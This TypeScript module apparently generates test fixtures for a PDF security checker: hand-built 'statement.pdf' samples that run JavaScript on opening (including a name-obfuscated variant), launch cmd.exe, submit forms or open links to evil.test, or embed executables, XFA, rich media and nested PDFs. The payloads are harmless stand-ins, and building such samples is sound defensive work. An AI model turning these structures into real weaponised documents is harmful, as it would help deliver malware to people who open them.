import { family, type HostileFile } from './hostile-file.ts';
import { packed, pdfByHand, pdfStream, type PdfByHand } from './pdf-by-hand.ts';

const acts: readonly (readonly [string, PdfByHand])[] = [
  ['script on opening', { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }],
  [
    'script by reference',
    { catalogue: '/OpenAction 5 0 R', more: ['<< /S /JavaScript /JS 6 0 R >>', pdfStream('', 'app.alert(2)')] },
  ],
  ['script under a disguised name', { catalogue: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(3)) >>' }],
  ['script among the names', { catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>' }],
  [
    'program on opening',
    { catalogue: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>' },
  ],
  ['address on opening', { catalogue: '/OpenAction << /S /URI /URI (http://evil.test/?open) >>' }],
  ['script when the page is shown', { page: '/AA << /O << /S /JavaScript /JS (app.alert(4)) >> >>' }],
  [
    'program behind a link',
    { page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (a.exe) >> >>]' },
  ],
  [
    'form that sends itself',
    {
      page: '/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.test) >> >>]',
    },
  ],
  [
    'script packed away in an object stream',
    {
      catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>',
      more: ['<< /S /JavaScript /JS (app.alert(5)) >>'],
    },
  ],
];

const file = (n: number) => pdfStream('/Type /EmbeddedFile /Filter /FlateDecode', packed(`MZ program ${n}`));
const spec = '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>';

const carries: readonly (readonly [string, PdfByHand])[] = [
  [
    'file among the names',
    { catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', more: [file(1), spec] },
  ],
  [
    'file on the page',
    { page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]', more: [file(2), spec] },
  ],
  ['associated file', { catalogue: '/AF [6 0 R]', more: [file(3), spec] }],
  [
    'portfolio',
    {
      catalogue: '/Collection << /Type /Collection /View /H >> /Names << /EmbeddedFiles << /Names [(b) 6 0 R] >> >>',
      more: [file(4), spec],
    },
  ],
  [
    'XFA form',
    {
      catalogue: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      more: [pdfStream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')],
    },
  ],
  [
    'XFA in parts',
    { catalogue: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>', more: [pdfStream('', '<template/>')] },
  ],
  ['rich media', { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]' }],
  [
    'screen with a film',
    { page: '/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>]' },
  ],
  [
    'solid model',
    {
      page: '/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 5 0 R >>]',
      more: [pdfStream('/Type /3D /Subtype /U3D', 'U3D')],
    },
  ],
  [
    'another PDF inside, to be opened',
    { catalogue: '/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (a.pdf) >> >>' },
  ],
];

export const activePdfs = (): HostileFile[] => [
  ...family(
    'PDF that acts',
    acts.map(([what, order]) => [what, 'statement.pdf', pdfByHand(order, what)]),
  ),
  ...family(
    'PDF that carries',
    carries.map(([what, order]) => [what, 'statement.pdf', pdfByHand(order, what)]),
  ),
];
